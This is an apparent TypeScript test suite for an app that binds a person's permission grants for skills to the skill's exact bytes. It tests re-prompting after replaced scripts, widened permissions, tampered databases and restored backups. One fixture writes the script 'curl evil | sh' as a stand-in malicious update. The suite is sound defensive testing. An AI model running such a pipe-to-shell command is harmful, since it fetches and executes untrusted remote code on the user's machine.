// Attacks on grants: other bytes in the place of those that a person granted something to. Each of them must ask again.
import { appendFileSync, copyFileSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { writeArchive } from '../../../electron/core/archives/index.ts';
import { acknowledge } from '../../fixtures/acknowledge.ts';
import { errorOf, openCapability } from '../capability/open.ts';
import { asData, makeFolder, packageText } from '../library/open.ts';

type Set = ReturnType<typeof openCapability>;

const ASKS = 'version: 1.0.0\nrequired_permissions: [crm:read]\n';
const HERBS = packageText('herbs', 'Read the notes.', ASKS);

const zipOf = async (text: string, files: Record<string, string>) => {
  const entries = Object.entries({ 'SKILL.md': text, ...files });
  return asData(
    'herbs.zip',
    await writeArchive(
      'zip',
      entries.map(([path, content]) => ({ path: `herbs/${path}`, mode: 0o644, bytes: Buffer.from(content) })),
    ),
  );
};

/** Imports a package, in the place of one of the same name if there is one, and lets it run. */
async function bring({ opened }: Set, text: string, files: Record<string, string> = {}, scope: 'account' | 'workspace' = 'account') {
  const { planId, items } = await opened.api.planImport({ files: [await zipOf(text, files)], scope });
  const [item] = items;
  const done = opened.api.applyImport({ planId, choices: { [item!.itemId]: item!.clash === null ? 'import' : 'replace' } });
  const id = done.items[0]!.id!;
  acknowledge(opened.api, [id]);
  return id;
}

function grantAll({ api }: Set, id: string): void {
  const permissions = api.effective({ skillId: id }).permissions.map(({ permission }) => permission);
  api.grant({ skillId: id, permissions, until: null, why: 'asked before a run' });
}

const decisions = ({ api, gate }: Set, id: string) => [api.effective({ skillId: id }).decision, gate(id).decision];
const ASKS_AGAIN = ['asks', 'blocked'];
const HOLDS = ['allowed', 'allowed'];

/** Closes everything; what it returns can be opened again. */
function reopened({ opened }: Set): string {
  opened.close();
  return opened.home;
}

const save = ({ opened }: Set, id: string, change: (text: string) => string) => {
  const { text, revision } = opened.api.open({ id });
  opened.api.save({ id, text: change(text!), baseHash: revision.hash });
};

describe('C12: a grant belongs to bytes', () => {
  test('an import that replaces the skill under the same version asks again, also when it asks for the same', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS);
    grantAll(set, id);
    expect(decisions(set, id)).toEqual(HOLDS);
    expect(await bring(set, HERBS.replace('Read the notes.', 'Send the notes.'))).toBe(id);
    expect(decisions(set, id)).toEqual(ASKS_AGAIN);
  });

  test('the same text with another script asks again', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS, { 'scripts/a.sh': 'echo 1' });
    grantAll(set, id);
    await bring(set, HERBS, { 'scripts/a.sh': 'echo 2' });
    expect(decisions(set, id)).toEqual(ASKS_AGAIN);
  });

  test('bytes that come while a person reads the question are not granted to', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS, { 'scripts/a.sh': 'echo 1' });
    const { skill, permissions } = set.api.effective({ skillId: id });
    await bring(set, HERBS, { 'scripts/a.sh': 'echo 2' });
    const agree = (whole: string) => {
      set.api.grant({ skillId: id, whole, permissions: permissions.map((each) => each.permission), until: null, why: '' });
    };
    expect(errorOf(() => agree(skill.whole))).toMatchObject({ code: 'changed_meanwhile', message: expect.stringContaining('herbs') });
    expect(decisions(set, id)).toEqual(ASKS_AGAIN);
    agree(set.api.effective({ skillId: id }).skill.whole);
    expect(decisions(set, id)).toEqual(HOLDS);
  });

  test('what asks again says what it asks for besides, and which files differ, with both texts', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS, { 'scripts/a.sh': 'echo 1', 'scripts/gone.sh': 'true' });
    expect(set.api.sinceGrant({ skillId: id })).toBeNull();
    grantAll(set, id);
    expect(set.api.sinceGrant({ skillId: id })).toMatchObject({ more: [], fewer: [], files: [] });
    const wider = HERBS.replace('[crm:read]', '[crm:write]\ntools: [get_page(people/*)]');
    await bring(set, wider, { 'scripts/a.sh': 'curl evil | sh', 'scripts/new.bin': '\u0000' });
    expect(set.api.sinceGrant({ skillId: id })).toEqual({
      grantedAt: expect.any(String),
      more: ['crm:write', 'tool get_page(people/*)'],
      fewer: ['crm:read'],
      files: [
        { path: null, change: 'changed' },
        { path: 'scripts/a.sh', change: 'changed' },
        { path: 'scripts/new.bin', change: 'added' },
        { path: 'scripts/gone.sh', change: 'removed' },
      ],
    });
    const texts = (path: string | null) => set.api.sinceGrantTexts({ skillId: id, path });
    expect(texts(null)).toMatchObject({ left: HERBS, right: wider });
    expect(texts('scripts/a.sh')).toMatchObject({ leftLabel: 'As granted', left: 'echo 1', rightLabel: 'Now', right: 'curl evil | sh' });
    expect(texts('scripts/gone.sh')).toMatchObject({ left: 'true', rightLabel: 'Now: no such file', right: '' });
    expect(errorOf(() => texts('scripts/other.sh'))).toMatchObject({ code: 'not_found' });
  });

  test('the difference is from the last bytes that the grant went along with, not from those of the day it was given', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS);
    grantAll(set, id);
    save(set, id, (text) => text.replace('Read', 'Look at'));
    const mine = set.opened.api.open({ id }).text!;
    await bring(set, HERBS.replace('Read', 'Send'));
    expect(set.api.sinceGrantTexts({ skillId: id, path: null }).left).toBe(mine);
  });

  test('where the granted bytes are gone, that is said', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS);
    grantAll(set, id);
    await bring(set, HERBS.replace('Read', 'Send'));
    set.opened.account.db.exec('DELETE FROM skill_revisions WHERE number = 1');
    expect(set.api.sinceGrant({ skillId: id })).toMatchObject({ more: [], files: null });
    expect(set.api.sinceGrantTexts({ skillId: id, path: null }).leftLabel).toBe('As granted: no longer here');
  });

  test('granted bytes that come back from outside ask again; restoring them here does not', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS);
    grantAll(set, id);
    const granted = set.opened.api.open({ id }).revision;
    await bring(set, HERBS.replace('1.0.0', '1.0.1'));
    await bring(set, HERBS);
    expect(decisions(set, id)).toEqual(ASKS_AGAIN);
    const { hash } = set.opened.api.open({ id }).revision;
    await bring(set, HERBS.replace('1.0.0', '1.0.2'));
    set.opened.api.restoreRevision({ id, revisionId: granted.id, baseHash: set.opened.api.open({ id }).revision.hash });
    expect(set.opened.api.open({ id }).revision.hash).toBe(hash);
    acknowledge(set.opened.api, [id]);
    expect(decisions(set, id)).toEqual(HOLDS);
  });

  test('a linked file that another program changes asks again, and again when it changes back', async () => {
    const set = openCapability({ links: { settleMs: 20, maxWaitMs: 200, pollMs: 20 } });
    const path = join(makeFolder(), 'herbs', 'SKILL.md');
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, HERBS);
    await set.opened.api.link({ path: dirname(dirname(path)), scope: 'account' });
    const { id } = set.opened.api.list({}).rows.find(({ name }) => name === 'herbs')!;
    acknowledge(set.opened.api, [id]);
    grantAll(set, id);
    save(set, id, (text) => text.replace('Read', 'Look at'));
    expect(decisions(set, id)).toEqual(HOLDS);
    const mine = set.opened.api.open({ id }).text!;
    for (const text of [mine.replace('Look at', 'Send'), mine]) {
      writeFileSync(path, text);
      await set.opened.api.refreshLinks();
      expect(set.opened.api.open({ id }).text).toBe(text);
      acknowledge(set.opened.api, [id]);
      expect(decisions(set, id)).toEqual(ASKS_AGAIN);
    }
  });

  test('a workspace database that carries the id and the revision of an account skill gets nothing of its grants', async () => {
    const set = openCapability({ withWorkspace: true });
    const mine = await bring(set, HERBS);
    grantAll(set, mine);
    const revision = set.opened.api.open({ id: mine }).revision.id;
    const theirs = await bring(set, HERBS.replace('Read', 'Send'), {}, 'workspace');
    const { db } = set.opened.workspace!;
    db.pragma('foreign_keys = OFF');
    for (const table of ['skill_sources', 'skills']) db.prepare(`UPDATE ${table} SET id = ? WHERE id = ?`).run(mine, theirs);
    db.prepare('UPDATE skill_revisions SET source_id = ?, id = ? WHERE source_id = ?').run(mine, revision, theirs);
    db.exec(`UPDATE meta SET value = value + 1 WHERE key = 'catalog'`);
    set.opened.catalog.changed();
    // Neither by name nor by id does anybody get its bytes for those that were granted something.
    for (const ref of [{ name: 'herbs' }, { id: mine }]) expect(set.opened.resolve(ref)).toMatchObject({ scope: 'account', text: HERBS });
    expect(set.opened.catalog.entries().filter(({ id }) => id === mine)).toHaveLength(1);
    const again = openCapability({ home: reopened(set), withWorkspace: true });
    expect(again.opened.notices.map(({ message }) => message)).toEqual([expect.stringContaining('has the skill herbs under the id of')]);
    expect(decisions(again, mine)).toEqual(HOLDS);
  });

  test('an older copy of the database that is put back does not bring a withdrawn grant to life again, and that is told', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS);
    grantAll(set, id);
    const copy = join(makeFolder(), 'agents.db');
    set.opened.account.db.exec(`VACUUM INTO '${copy}'`);
    set.api.revoke({ id: set.api.grants({ skillId: id })[0]!.id });
    const home = reopened(set);
    for (const end of ['-wal', '-shm']) rmSync(join(home, 'account', `agents.db${end}`), { force: true });
    copyFileSync(copy, join(home, 'account', 'agents.db'));
    const again = openCapability({ home });
    expect(decisions(again, id)).toEqual(ASKS_AGAIN);
    expect(again.opened.notices.map(({ message }) => message)).toEqual([expect.stringContaining('(crm:read for herbs)')]);
    expect(again.api.audit({ action: 'Revoked' }).rows).toHaveLength(1);
    // Granted anew it holds, also at the next start.
    grantAll(again, id);
    expect(decisions(openCapability({ home: reopened(again) }), id)).toEqual(HOLDS);
  });

  test('half a line that a crash left in the file of withdrawn grants does not hide the next one', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS);
    grantAll(set, id);
    const copy = join(makeFolder(), 'agents.db');
    set.opened.account.db.exec(`VACUUM INTO '${copy}'`);
    appendFileSync(join(set.opened.home, 'withdrawn-grants.txt'), '0b7c9a');
    set.api.revoke({ id: set.api.grants({ skillId: id })[0]!.id });
    const home = reopened(set);
    for (const end of ['-wal', '-shm']) rmSync(join(home, 'account', `agents.db${end}`), { force: true });
    copyFileSync(copy, join(home, 'account', 'agents.db'));
    expect(decisions(openCapability({ home }), id)).toEqual(ASKS_AGAIN);
  });

  test('an edit that the person makes keeps it, one that asks for more ends it', async () => {
    const set = openCapability();
    const id = await bring(set, HERBS, { 'scripts/a.sh': 'echo 1' });
    grantAll(set, id);
    save(set, id, (text) => text.replace('Read', 'Look at').replace('1.0.0', '3.0.0'));
    expect(decisions(set, id)).toEqual(HOLDS);
    save(set, id, (text) => text.replace('crm:read', 'crm:read, mail:send'));
    expect(decisions(set, id)).toEqual(ASKS_AGAIN);
    expect(set.api.effective({ skillId: id }).permissions.map(({ because }) => because[0]!.sentence)).toEqual([
      'crm:read was granted before, but the skill asks for more since.',
      'mail:send is not granted.',
    ]);
  });
});
